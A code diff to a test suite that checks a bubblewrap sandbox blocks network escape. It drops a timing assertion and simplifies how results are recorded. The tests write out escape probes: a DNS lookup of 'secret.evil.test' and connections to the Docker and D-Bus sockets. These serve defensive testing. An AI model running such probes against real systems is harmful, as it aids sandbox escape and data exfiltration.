@@ -14,8 +14,8 @@ describe.each(testUsers)('a bubblewrap bottle $title', (user) => {
     host[Symbol.dispose]()
   })
 
-  /** Runs a body that gets `attempt(name, start)`: what happens to each start, and after how long. */
-  async function attempts(body: string): Promise<Record<string, { outcome: string; ms: number }>> {
+  /** Runs a body that gets `attempt(name, start)`: what happens to each start. */
+  async function attempts(body: string): Promise<Record<string, string>> {
     const { stdout, stderr } = await host.run([
       host.node,
       '--input-type=module',
@@ -59,9 +59,9 @@ describe.each(testUsers)('a bubblewrap bottle $title', (user) => {
         await attempt('quic ' + host, () => datagram(host, 443))
       }
     `)
-    for (const [name, { outcome, ms }] of Object.entries(results)) {
+    // Answers of the bottle's own kernel: whatever waits for a network ends with ETIMEDOUT or EHOSTUNREACH.
+    for (const [name, outcome] of Object.entries(results)) {
       expect(outcome, name).toMatch(/^(ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT)$/)
-      expect(ms, name).toBeLessThan(1_000)
     }
     expect(Object.keys(results)).toHaveLength(2 + 4 * targets.length)
     expect(canary.seen()).toBe(0)
@@ -81,8 +81,7 @@ describe.each(testUsers)('a bubblewrap bottle $title', (user) => {
         await attempt('direct ' + host, () => new Promise((done, fail) => resolver.resolve4('secret.evil.test', (e, r) => e ? fail(e) : done(r))))
       }
     `)
-    const outcomes = Object.fromEntries(Object.entries(results).map(([name, { outcome }]) => [name, outcome]))
-    expect(outcomes).toEqual({
+    expect(results).toEqual({
       A: '198.18.0.1',
       lookup: '198.18.0.1',
       AAAA: 'ENODATA',
@@ -102,7 +101,7 @@ describe.each(testUsers)('a bubblewrap bottle $title', (user) => {
       await attempt('docker', () => connect({ path: '/var/run/docker.sock' }))
       await attempt('bus', () => connect({ path: '/run/dbus/system_bus_socket' }))
     `)
-    expect(Object.values(results).map(({ outcome }) => outcome)).toEqual(['ENOENT', 'ECONNREFUSED', 'ENOENT', 'ENOENT'])
+    expect(Object.values(results)).toEqual(['ENOENT', 'ECONNREFUSED', 'ENOENT', 'ENOENT'])
     const { stdout } = await host.run(['/usr/bin/find', '/', '-path', '/proc', '-prune', '-o', '-type', 's', '-print'])
     expect(stdout).toBe('')
     expect(canary.seen()).toBe(0)
@@ -116,9 +115,7 @@ import dgram from 'node:dgram'
 import dns from 'node:dns'
 const results = {}
 async function attempt(name, start) {
-  const startedAt = performance.now()
-  const outcome = await start().then((value) => String(value), (failure) => failure.code)
-  results[name] = { outcome, ms: performance.now() - startedAt }
+  results[name] = await start().then((value) => String(value), (failure) => failure.code)
 }
 const connect = (target) => new Promise((resolve, reject) => {
   const socket = net.connect(target, () => { socket.destroy(); resolve('connected') })
